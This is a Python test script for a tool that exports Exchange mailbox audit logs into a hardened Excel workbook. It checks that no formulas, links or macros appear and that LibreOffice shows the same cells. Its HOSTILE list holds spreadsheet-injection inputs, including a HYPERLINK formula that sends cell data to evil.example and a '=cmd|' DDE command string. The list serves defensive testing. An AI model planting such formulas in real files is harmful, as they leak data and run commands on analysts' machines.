"""A workbook, opened by LibreOffice and taken apart, says what the exact CSV
of the same case says.

Usage: same.py BOOK FIXTURES
"""
import csv
import functools
import json
import os
import pathlib
import re
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import unicodedata
import xml.etree.ElementTree as ElementTree
import zipfile

BOOK, FIXTURES = sys.argv[1:3]
SHEETS = ['messages', 'folders', 'mailboxes', 'sessions', 'coverage', 'timeline', 'sources']
# Before those: the first is 1.
FIRST = 2
CUT = ' [cut: see csv exact or json]'
MAIN = '{http://schemas.openxmlformats.org/spreadsheetml/2006/main}'
# All cells as shown, each sheet into a file.
FILTER = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1'
checks = 0


def check(holds, what):
  global checks
  checks += 1
  if not holds:
    sys.exit(f'not so: {what}')


def book(directory, *evidence, scratch='-', made='-', **options):
  return subprocess.run([BOOK, directory, scratch, made, *evidence], capture_output=True, check=False, **options)


# What Unicode calls control, format, separator of lines, or ignorable by default.
IGNORABLE = re.compile('[\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u3164\ufe00-\ufe0f\uffa0\ufff0-\ufff8'
                       '\uffff\ufffe\U000e0000-\U000e0fff]')


@functools.lru_cache(maxsize=None)
def shown(text):
  """What the analyst sees in the place of a text of the CSV."""
  if len(text) <= 32767 and '_' not in text and text.isascii() and text.isprintable():
    return text

  def one(match):
    c = match[0]
    if len(c) == 3:  # the CSV has a byte that is no UTF-8 as U+FFFD and its digits
      return f'\u27e8\\x{c[1:]}\u27e9'
    if c in '\t\n\r' or not (unicodedata.category(c) in ('Cc', 'Cf', 'Zl', 'Zp') or IGNORABLE.match(c)):
      if c != '\u27e8' or not re.match(r'\u27e8(U\+|\\x)', text[match.start():]):
        return c
    return f'\u27e8U+{ord(c):04X}\u27e9'

  pieces, units, room = [], 0, 0
  for match in re.finditer('\ufffd[0-9A-F]{2}|.', text, flags=re.S):
    piece = one(match)
    # An escape of the file format is seven characters of the limit.
    escape = piece == '_' and re.match('_x[0-9A-Fa-f]{4}_', text[match.start():])
    units += 7 if escape else len(piece.encode('utf-16-le')) // 2
    pieces.append(piece)
    if units <= 32767 - len(CUT):
      room = len(pieces)
  return ''.join(pieces) if units <= 32767 else ''.join(pieces[:room]) + CUT


def table(path):
  with open(path, encoding='utf-8', newline='') as file:
    return list(csv.reader(file))


def expected(path, names, words):
  """The rows of a CSV with the columns as the workbook orders and calls them."""
  header, *rows = table(path)
  check(sorted(names) == sorted([*header, 'xlsx_escaped']), f'{path.name} and its sheet have the same columns')
  called = dict(zip(names, words))
  yield list(words)
  for row in rows:
    cells = dict(zip(header, map(shown, row)))
    changed = {name for name, as_is in zip(header, row) if cells[name] != as_is}
    cells['xlsx_escaped'] = ' | '.join(called[name] for name in names if name in changed)
    yield [cells[name] for name in names]


def decoded(text):
  """As Excel shows what the format escapes."""
  return re.sub('_x([0-9A-Fa-f]{4})_', lambda m: chr(int(m[1], 16)), text)


def column(reference):
  number = 0
  for letter in re.match('[A-Z]+', reference)[0]:
    number = number * 26 + ord(letter) - 64
  return number - 1


def taken_apart(archive, path):
  """The rows of a sheet as the file has them; dates as (number, style)."""
  root = ElementTree.fromstring(archive.read(path))
  for row in root.iter(MAIN + 'row'):
    cells = {}
    for cell in row:
      check(cell.tag == MAIN + 'c' and cell.get('t') in (None, 'inlineStr'), f'{path} has texts and numbers only')
      check({e.tag for e in cell} <= {MAIN + 'is', MAIN + 'v'}, f'{path} has no formula')
      if cell.get('t'):
        cells[column(cell.get('r'))] = decoded(''.join(e.text or '' for e in cell.iter(MAIN + 't')))
      else:
        cells[column(cell.get('r'))] = float(cell.find(MAIN + 'v').text)
    yield cells
  check(root.find(MAIN + 'autoFilter') is not None, f'{path} has filters')
  check(root.find(f'.//{MAIN}pane').get('state') == 'frozen', f'{path} has a header that stays')


def notes(archive, number):
  """The notes on a sheet, by column: what each is called in the CSV."""
  links = archive.read(f'xl/worksheets/_rels/sheet{number}.xml.rels').decode()
  root = ElementTree.fromstring(archive.read('xl/comments' + re.search(r'/comments(\d+)\.xml', links)[1] + '.xml'))
  found = {}
  for note in root.iter(MAIN + 'comment'):
    check(re.fullmatch('[A-Z]+1', note.get('ref')), 'notes are on headings only')
    found[column(note.get('ref'))] = ''.join(e.text or '' for e in note.iter(MAIN + 't'))
  return found


def page_is_set_up(archive, number, name):
  root = ElementTree.fromstring(archive.read(f'xl/worksheets/sheet{number}.xml'))
  page = root.find(MAIN + 'pageSetup')
  check(page.get('orientation') == 'landscape' and page.get('paperSize') == '9', f'{name} is A4, landscape')
  check(page.get('fitToHeight') == '0' and root.find(f'.//{MAIN}pageSetUpPr').get('fitToPage') == '1',
        f'{name} is as wide as a page')
  foot = root.find(f'.//{MAIN}oddFooter').text
  check(foot == f'&L{name}&CC-1 && &&P\u27e8U+202E\u27e9&RPage &P of &N', f'the foot of {name} is {foot}')


def number_is(number, text):
  when = re.fullmatch(r'(\d+-\d+-\d+)T(\d+:\d+:\d+)Z', text)
  if not when:
    return str(int(number)) == text
  seconds = round((number - 25569) * 86400, 3)
  return time.strftime('%Y-%m-%dT%H:%M:%SZ', time.gmtime(seconds)) == text and seconds == int(seconds)


def check_archive(directory, more):
  with zipfile.ZipFile(directory / 'book.xlsx') as archive:
    check(archive.testzip() is None, 'the archive is whole')
    for name in archive.namelist():
      # A note is drawn in a box; nothing else is.
      what = re.sub(r'^xl/drawings/vmlDrawing[0-9]+\.vml$', '', name)
      check(not re.search('externalLink|vba|hyperlink|drawing|connection|macro', what, re.I), f'no member {name}')
      content = archive.read(name)
      ElementTree.fromstring(content)
      check(b'TargetMode' not in content and b'<hyperlink' not in content, f'{name} links to nothing')
      check(b'<f>' not in content and b'<f ' not in content, f'{name} has no formula')
    names = re.findall('<sheet name="([^"]*)"', archive.read('xl/workbook.xml').decode())
    check(names == ['summary', *SHEETS, *more, 'about'], f'the sheets are {names}')
    titles = re.findall('<definedName name="_xlnm.Print_Titles" localSheetId="([0-9]+)">([^<]*)<',
                        archive.read('xl/workbook.xml').decode())
    check(sorted(int(i) for i, _ in titles) == list(range(1, len(names) - 1)) and all('$1:$1' in rows for _, rows in titles),
          'headings are repeated on each page')
    for i, name in enumerate(names):
      page_is_set_up(archive, i + 1, name)
    for i, name in enumerate(more):
      rows = list(taken_apart(archive, f'xl/worksheets/sheet{FIRST + len(SHEETS) + i}.xml'))
      check(len(rows) == 2 and 'BAD_JSON' in rows[1].values(), f'{name} has the reject')
    headers = {}
    for i, name in enumerate(SHEETS):
      found = list(taken_apart(archive, f'xl/worksheets/sheet{FIRST + i}.xml'))
      noted = notes(archive, FIRST + i)
      words = [found[0][j] for j in range(len(found[0]))]
      headers[name] = [noted.get(j, word) for j, word in enumerate(words)], words
      wanted = list(expected(directory / f'{name}.csv', *headers[name]))
      check(len(found) == len(wanted), f'{name} has {len(wanted)} rows')
      for cells, row in zip(found, wanted):
        check(set(cells) == {j for j, text in enumerate(row) if text != ''}, f'{name}: empty is empty in {row[:3]}')
        for j, cell in cells.items():
          same = number_is(cell, row[j]) if isinstance(cell, float) else cell == row[j]
          check(same, f'{name}: {cell!r:.200} for {row[j]!r:.200}')
    return headers


def breaks(text):
  return re.sub('\r\n?', '\n', text)


def check_office(directory, profile, headers):
  subprocess.run(['soffice', f'-env:UserInstallation={profile.as_uri()}', '--headless', '--convert-to', FILTER,
                  '--outdir', str(directory), str(directory / 'book.xlsx')],
                 check=True, capture_output=True, timeout=100)
  for name in SHEETS:
    found, wanted = table(directory / f'book-{name}.csv'), list(expected(directory / f'{name}.csv', *headers[name]))
    check(len(found) == len(wanted), f'LibreOffice has {len(found)} rows of {name}')
    for row, want in zip(found, wanted):
      for cell, text in zip(row, want):
        # LibreOffice has one kind of line break in a cell of several lines.
        check(breaks(cell) == breaks(text), f'LibreOffice, {name}: {cell!r:.200} for {text!r:.200}')


HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r\n=1', 'a\r\nb\tc\rd',
  ' leading and trailing ', '\x01\x02\x1b[31m\x7f\x85', '\u202ereversed\u202c \u2066x\u2069', 'zero\u200bwidth\ufeff',
  '_x0041_', '_x0041_x0042_', '__x000D_', '\r_x004A_', '_x005F_x0041_', '_X0041_ _x41_ _xabCD_', 'a_\rx0041_',
  '\u27e8U+0001\u27e9', '\u27e8\\xFF\u27e9', '\u27e8plain\u27e9', ']]><f>1+1</f>', '&amp;<b>"\'', '00123', '1e5',
  '2026-03-04', 'TRUE', '#REF!', "'quoted", '\U0001f4e7 mail \u2764\ufe0f', '\ufffe \uffff', '9' * 400,
  'x' * 32767, 'y' * 32768, '\U0001f4e7' * 16384, 'z' * 32766 + '\U0001f4e7', '\u0001' * 9000, 'w' * 40000,
  '_x0041_' * 4000, '=' + 'v' * 39999,
]


def write_hostile(directory):
  with open(os.path.join(os.fsencode(directory), b'bad\xff\x01=name.ndjson'), 'w', encoding='ascii') as file:
    for i, subject in enumerate(HOSTILE):
      record = {
        'CreationTime': f'2026-05-18T09:{i // 60:02}:{i % 60:02}', 'Id': f'57000015-0000-4000-8000-{i:012}',
        'Operation': 'Send', 'OrganizationId': '67726565-6e68-4f6c-8474-000000000003', 'RecordType': 2,
        'ResultStatus': 'Succeeded', 'UserKey': '1', 'UserType': 0, 'Version': 1, 'Workload': 'Exchange',
        'UserId': '=cmd|x!A0@greenholt.example', 'ClientIPAddress': '203.0.113.50', 'LogonType': 0,
        'ClientInfoString': 'Client=OWA;Action=ViaProxy', 'MailboxGuid': 'd0000000-0000-4000-8000-00000000d025',
        'MailboxOwnerUPN': 'hanna.vik@greenholt.example', 'SessionId': '5e55a77a-0000-4000-8000-00000000000a',
        'Item': {'Id': f'item{i}', 'InternetMessageId': f'<{i}@greenholt.example>', 'SizeInBytes': 10 ** i,
                 'ParentFolder': {'Id': 'folder', 'Path': '\\Drafts\u202e'}, 'Subject': subject},
      }
      if i == 0:
        # One time finer than dates are: the column must be text, and exact.
        record['CreationTime'] = '2026-05-18T09:00:00.1234567'
      if i > 17:
        record['Item']['SizeInBytes'] = i
      file.write(json.dumps(record) + '\n')
    file.write('{"Operation":}\n')


def check_repeatable(directory, evidence, first):
  """Not the time, the zone, nor where the temporary files are."""
  again = directory / 'again'
  again.mkdir()
  scratch = directory / 'scratch'
  scratch.mkdir()
  environment = {**os.environ, 'TZ': 'Asia/Kathmandu', 'LC_ALL': 'de_DE.UTF-8'}
  check(book(again, evidence, scratch=scratch, env=environment).returncode == 0, 'a second run')
  check((again / 'book.xlsx').read_bytes() == first, 'a second run has the same bytes')
  check(os.listdir(scratch) == [], 'no temporary file stays')
  for made, date in [('1767225600', '2026-01-01T00:00:00Z'), ('0', '1980-01-01T00:00:00Z'),
                     ('99999999999999', '1980-01-01T00:00:00Z')]:
    check(book(again, evidence, scratch=scratch, made=made, env=environment).returncode == 0, f'made {made}')
    with zipfile.ZipFile(again / 'book.xlsx') as archive:
      check(archive.read('docProps/core.xml').decode().count(f'>{date}<') == 2, f'the document is of {date}')


def limited(size):
  def limit():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, size))
  return limit


def check_full(directory, evidence):
  """No file may grow beyond some size: whichever write that hits, the run
  fails, in its own words alone, and leaves nothing."""
  target, scratch = directory / 'full', directory / 'full-scratch'
  target.mkdir()
  scratch.mkdir()
  for size in (0, 1, 4096, 5000, 9000, 20000, 60000, 100000, 200000):
    run = book(target, evidence, scratch=scratch, preexec_fn=limited(size))
    check(run.returncode == 1, f'{size} bytes are too few')
    check(re.fullmatch(rb'book: MIA_ERR_IO: [^\n]*\n', run.stderr), f'{size} bytes: {run.stderr!r}')
    check(os.listdir(scratch) == [], f'{size} bytes: no temporary file stays')
    check((target / 'book.xlsx').stat().st_size == 0, f'{size} bytes: half a workbook is none')
  run = book(target, evidence, scratch=directory / 'nowhere')
  check(run.returncode == 1 and run.stderr.startswith(b'book: MIA_ERR_IO'), 'no directory for temporary files')


def main(directory):
  incident, hostile = directory / 'incident', directory / 'hostile'
  evidence = directory / 'evidence'
  for path in (incident, hostile, evidence):
    path.mkdir()
  write_hostile(evidence)
  office = shutil.which('soffice')
  for target, source, more in ((incident, os.path.join(FIXTURES, 'incident'), []), (hostile, evidence, ['rejects'])):
    run = book(target, source)
    check(run.returncode == 0 and run.stderr == b'', f'{target.name}: {run.stderr!r}')
    headers = check_archive(target, more)
    if office:
      check_office(target, directory / 'profile', headers)
  check_repeatable(directory, os.path.join(FIXTURES, 'incident'), (incident / 'book.xlsx').read_bytes())
  check_full(directory, evidence)
  print(f'{checks} checks', '' if office else '(without LibreOffice)')
  return 0 if office else 77


csv.field_size_limit(1 << 20)
with tempfile.TemporaryDirectory() as name:
  status = main(pathlib.Path(name))
sys.exit(status)
